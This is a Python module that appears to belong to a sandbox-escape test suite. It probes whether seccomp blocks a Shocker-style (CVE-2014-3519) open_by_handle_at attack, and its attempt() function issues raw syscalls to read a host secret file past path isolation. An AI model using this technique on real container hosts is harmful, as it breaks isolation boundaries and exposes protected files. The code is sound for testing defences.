"""A file of the host is opened by its handle, past everything that the worker sees.

open_by_handle_at(2) opens a file by its number on the disk: no path, no view, no read-only bind.
In the open, with root's rights, a file outside is read that way.

Layers: seccomp, with a record; without it the worker still lacks the right to it, and nobody
records the try.

Not covered: worker and host on one disk where the worker has a right to do this; nobody inside has.
"""

import ctypes
import os
import struct

import native

ATTACK = {
    "title": "File opened by its handle",
    "group": "calls",
    "layer": "seccomp",
    "risk": "boundary-tampering",
    "references": ["open_by_handle_at(2)", "CVE-2014-3519 (Shocker)", "CWE-22"],
    "arrives": [{"what": "state", "name": "secret-read"}],
    "stopped": [
        {
            "reason": ["system-call-refused"],
            "entry": ["exec"],
            "layer": ["seccomp"],
            "where": {"call": "open_by_handle_at"},
            "seen": ["EPERM"],
        }
    ],
    "before": ["secret"],
    "needs": ["root"],
}


def attempt(kit):
    def by_handle():
        handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136), ctypes.c_int()
        path = (kit.facts["secret"] if kit.is_open else kit.folder).encode()
        if kit.is_open:
            native.system_call((303, 264), -100, path, handle, ctypes.byref(mount), 0)
        fd = native.system_call((304, 265), os.open(kit.folder, os.O_RDONLY), handle, os.O_RDONLY)
        return os.read(fd, 100).decode()

    kit.do("open_by_handle_at", by_handle)
